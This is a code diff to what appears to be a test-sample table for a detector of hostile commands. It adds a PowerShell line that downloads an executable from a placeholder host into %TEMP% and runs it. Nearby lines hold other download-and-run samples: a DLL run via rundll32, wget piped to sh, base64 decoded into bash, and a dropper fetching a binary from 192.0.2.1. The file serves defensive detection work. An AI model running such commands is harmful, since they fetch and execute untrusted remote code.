@@ -85,6 +85,10 @@ SAMPLES: dict[str, bytes] = {
     "library_is_loaded_and_started": text(
         "Invoke-WebRequest http://e.example/a.dll -OutFile a.dll", "rundll32 a.dll,Start"
     ),
+    "program_is_loaded_and_started": text(
+        "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://e.example/a.exe','%TEMP%\\a.exe')\"",
+        "start %TEMP%\\a.exe",
+    ),
     "network_into_a_shell": text("wget -q -O- http://e.example/a | sh"),
     "decoded_into_a_shell": text("echo ZWNobyBoZWxsbw== | base64 -d | bash"),
     "shell_dropper": text("cd /tmp; wget http://192.0.2.1/bins/a; chmod 777 a; ./a; rm -rf a"),
